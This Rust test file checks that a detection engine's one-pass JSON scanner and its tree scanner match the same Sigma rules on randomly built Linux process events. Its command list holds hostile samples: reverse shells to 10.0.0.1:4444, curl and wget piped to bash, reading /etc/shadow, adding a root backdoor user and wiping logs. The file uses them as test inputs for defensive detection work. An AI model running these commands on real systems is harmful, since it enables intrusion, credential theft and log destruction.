//! `Scanner::scan_ecs_json` (one pass over the JSON text) against `Scanner::scan` (the parsed
//! tree), with the SigmaHQ Linux rules and Mamori's own: sensor-like ECS documents, built at
//! random from pieces that make rules fire, must match the same rules both ways wherever the
//! one-pass reader takes them.

use std::path::{Path, PathBuf};

use mamori_model::{Event, Shape};
use mamori_sigma::CompileOptions;

fn rules() -> mamori_sigma::RuleSet {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let sigma = root.join("../shared/data/sigma/rules/linux");
    assert!(
        sigma.is_dir(),
        "shared test data missing in {} (../shared/data relative to the project root)",
        sigma.display()
    );
    let paths: Vec<PathBuf> = vec![sigma, root.join("rules/linux")];
    let loaded = mamori_sigma::load::load(&paths, &[], CompileOptions::default()).unwrap();
    assert!(
        loaded.rules.detection_count() > 200,
        "the Linux rules loaded"
    );
    loaded.rules
}

const PROGRAMS: &[&str] = &[
    "/usr/bin/base64",
    "/bin/bash",
    "/usr/bin/nc",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/python3",
    "/usr/bin/crontab",
    "/usr/bin/chmod",
    "/usr/bin/whoami",
    "/usr/bin/id",
    "/tmp/x",
    "/usr/sbin/useradd",
    "/usr/bin/systemctl",
    "/usr/bin/ssh",
];

const COMMANDS: &[&str] = &[
    "echo ZWNobyBoaQ== | base64 -d | sh",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "curl -s http://x/a.sh | bash",
    "wget -q -O- http://x | sh",
    "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "crontab -l",
    "chmod +x /tmp/x",
    "cat /etc/shadow",
    "whoami",
    "id",
    "uname -a",
    "useradd -o -u 0 backdoor",
    "systemctl enable evil.service",
    "history -c",
    "rm -rf /var/log/*",
    "ls -la",
];

fn pick<'a>(rng: &mut fastrand::Rng, xs: &[&'a str]) -> &'a str {
    xs[rng.usize(..xs.len())]
}

/// A document shaped like the sensor's, with now and then an odd type or extra field.
fn document(rng: &mut fastrand::Rng) -> String {
    let exe = pick(rng, PROGRAMS);
    let cmd = pick(rng, COMMANDS);
    let parent = pick(rng, PROGRAMS);
    // The parent's command is often one that keyword rules look for: they must not see it.
    let parent_cmd = if rng.bool() {
        pick(rng, COMMANDS)
    } else {
        parent
    };
    let category = match rng.u32(0..6) {
        0 => r#""network""#.to_string(),
        1 => r#"["file"]"#.to_string(),
        2 => r#"["process", 7]"#.to_string(),
        _ => r#"["process"]"#.to_string(),
    };
    let os = match rng.u32(0..8) {
        0 => r#""os": {"type": "windows"}"#,
        1 => r#""os": {"family": "Linux"}"#,
        2 => r#""os": 5"#,
        _ => r#""os": {"type": "linux", "kernel": "6.18"}"#,
    };
    let extra = match rng.u32(0..10) {
        0 => r#", "EventID": 1"#,
        1 => r#", "labels": {"a.b": 1}"#,
        2 => r#", "user": {"name": "x", "name": "y"}"#,
        3 => r#", "tags": [["nested"]]"#,
        4 => r#", "file": {"path": "/etc/cron.d/evil", "size": 1.5e3}"#,
        5 => r#", "destination": {"ip": "10.0.0.1", "port": 4444}"#,
        _ => "",
    };
    let args: Vec<String> = cmd
        .split(' ')
        .map(|a| serde_json::to_string(a).unwrap())
        .collect();
    format!(
        r#"{{"@timestamp": "2026-11-26T10:00:00Z", "event": {{"kind": "event", "category": {category},
        "type": ["start"], "action": "exec", "module": "mamori", "dataset": "mamori.process"}},
        "host": {{"name": "web1", {os}}},
        "process": {{"pid": {pid}, "executable": {exe}, "name": {name}, "command_line": {cmdj},
        "args": [{args}], "working_directory": "/tmp", "parent": {{"pid": 1, "executable": {parent},
        "command_line": {parent_cmd}}}}}, "user": {{"name": "root", "id": "0"}}{extra}}}"#,
        pid = rng.u32(2..99999),
        exe = serde_json::to_string(exe).unwrap(),
        name = serde_json::to_string(exe.rsplit('/').next().unwrap()).unwrap(),
        cmdj = serde_json::to_string(cmd).unwrap(),
        args = args.join(", "),
        parent = serde_json::to_string(parent).unwrap(),
        parent_cmd = serde_json::to_string(parent_cmd).unwrap(),
    )
}

#[test]
fn one_pass_scan_matches_what_the_tree_scan_matches() {
    let set = rules();
    let (mut one, mut tree) = (set.scanner(), set.scanner());
    let mut rng = fastrand::Rng::with_seed(0x7363_616e);
    let (mut walked, mut gave_up, mut matched) = (0, 0, 0);
    let (mut a, mut b) = (Vec::new(), Vec::new());
    for _ in 0..4000 {
        let doc = document(&mut rng);
        a.clear();
        b.clear();
        let event = Event::with_shape(serde_json::from_str(&doc).unwrap(), Shape::Ecs);
        tree.scan(&event, &mut b);
        match one.scan_ecs_json(doc.as_bytes(), &mut a) {
            Ok(()) => {
                walked += 1;
                assert_eq!(a, b, "different matches for {doc}");
                // Correlation fields read the same values.
                for f in ["Image", "CommandLine", "User", "ParentImage"] {
                    assert_eq!(one.value(f), tree.value(f), "{f} of {doc}");
                }
                matched += usize::from(!a.is_empty());
            }
            Err(_) => {
                gave_up += 1;
                assert!(a.is_empty(), "nothing matched when the walk gave up");
            }
        }
    }
    assert!(walked > 2000, "the walk took only {walked} of 4000");
    assert!(
        gave_up > 100,
        "the odd documents were all walked ({gave_up} gave up)"
    );
    assert!(matched > 500, "too few matches to compare ({matched})");
    assert_eq!(
        one.stats().events,
        walked as u64,
        "only walked events are counted"
    );
    eprintln!("{walked} walked, {gave_up} left to the tree, {matched} matched");
}

/// A process event shaped like the sensor's: `command_line` its own, `parent` (and the
/// grandparent) the ancestry the sensor adds.
fn process_event(action: &str, own: &str, parent: &str, grandparent: &str) -> String {
    serde_json::json!({
        "@timestamp": "2026-11-26T10:00:00Z",
        "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": action,
                  "module": "mamori", "dataset": "mamori.process"},
        "host": {"name": "web1", "os": {"type": "linux"}},
        "process": {"pid": 20, "entity_id": "b:20:1", "executable": "/usr/bin/head",
                    "command_line": own,
                    "parent": {"pid": 10, "executable": "/usr/bin/bash", "command_line": parent,
                               "parent": {"pid": 5, "command_line": grandparent}}},
        "user": {"name": "root"}
    })
    .to_string()
}

/// Sigma keywords search what an event records of its own process, not the ancestry: a
/// keyword rule that matches a shell fires once, not again on each of its children and
/// grandchildren (a fork, a pipeline's commands). Field rules still read the parent.
#[test]
fn keywords_search_the_process_not_its_ancestry() {
    let set = rules();
    let title = |i: &usize| set.rules()[*i].meta.title.clone();
    let (mut one, mut tree) = (set.scanner(), set.scanner());
    let mut titles = |doc: &str| -> Vec<String> {
        let (mut a, mut b) = (Vec::new(), Vec::new());
        one.scan_ecs_json(doc.as_bytes(), &mut a).expect("walked");
        let event = Event::with_shape(serde_json::from_str(doc).unwrap(), Shape::Ecs);
        tree.scan(&event, &mut b);
        assert_eq!(a, b, "the one pass and the tree agree on {doc}");
        a.iter().map(title).collect()
    };
    const SHELL: &str = "Suspicious Activity in Shell Commands"; // keywords, product: linux
    const DEV_TCP: &str = "Suspicious Use of /dev/tcp"; // likewise
    let pipe = "sh -c echo ZWNobyBoaQ== | base64 -d | sh";
    let beacon = "bash -c exec 3<>/dev/tcp/127.0.0.1/4444; head -c 3 <&3";
    let own = titles(&process_event("exec", pipe, "bash", "init"));
    assert!(own.iter().any(|t| t == SHELL), "{own:?}");
    let own = titles(&process_event("exec", beacon, "bash", "init"));
    assert!(own.iter().any(|t| t == DEV_TCP), "{own:?}");
    for doc in [
        process_event("exec", "base64 -d", pipe, "bash"),
        process_event("exec", "head -c 3", "timeout 3 head -c 3", beacon),
        process_event("exit", "sh", "bash", pipe),
    ] {
        let got = titles(&doc);
        assert!(
            !got.iter().any(|t| t == SHELL || t == DEV_TCP),
            "a keyword rule matched the ancestry: {got:?} for {doc}"
        );
    }
    // A rule that names the parent's command line still reads it.
    let child = titles(&process_event("exec", "base64 -d", "bash -i", "sshd"));
    assert!(
        child
            .iter()
            .any(|t| t == "Interactive Bash Suspicious Children"),
        "{child:?}"
    );
}
